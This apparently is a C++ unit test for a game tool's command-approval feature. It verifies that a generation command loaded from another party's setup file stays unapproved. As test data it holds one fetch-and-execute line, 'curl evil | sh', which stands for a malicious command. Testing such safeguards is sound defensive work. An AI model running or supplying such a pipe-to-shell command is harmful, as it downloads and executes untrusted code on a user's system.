#include "setup/CommandApproval.h"
#include "setup/FileCommands.h"
#include "setup/SetupFile.h"
#include "support/RecordingUserInterface.h"
#include "support/ScopedEnvironment.h"
#include "support/TempDir.h"

#include <gtest/gtest.h>

namespace turnpost {
namespace {

using test::RecordingUserInterface;
using test::ScopedEnvironment;
using test::TempDir;

// A generation command the host typed and saved is his own, approved for the generation of that file;
// one a file brought stays unapproved however often the file is saved.
TEST(GenerateCommandApproval, SavingATypedCommandApprovesItAndAFilesCommandStaysUnapproved)
{
    TempDir dir;
    ScopedEnvironment config("XDG_CONFIG_HOME", dir.File("config"));
    GameDocument document;
    document.Setup.GenerateCommand = "./generate.sh";
    RecordingUserInterface ui(&document);
    const std::string saved = dir.File("game.tpf");
    ui.FileChoices.push_back(saved);
    FileSaveAs(document, ui);
    EXPECT_TRUE(IsCommandApproved(saved, "./generate.sh", GenerationDestination()));
    EXPECT_EQ(document.GenerateCommandFromFile, "./generate.sh");
    EXPECT_TRUE(ui.Messages.empty());

    GameSetup foreign;
    foreign.GenerateCommand = "curl evil | sh";
    const std::string posted = dir.File("posted.tpf");
    ASSERT_TRUE(WriteSetupFile(posted, foreign, ui));
    ASSERT_TRUE(ReadSetupFile(posted, document, ui));
    EXPECT_EQ(document.GenerateCommandFromFile, "curl evil | sh");
    EXPECT_TRUE(FileSave(document, ui));
    EXPECT_FALSE(IsCommandApproved(posted, "curl evil | sh", GenerationDestination()));

    FileNew(document, ui);
    EXPECT_TRUE(document.GenerateCommandFromFile.empty());
}

} // namespace
} // namespace turnpost
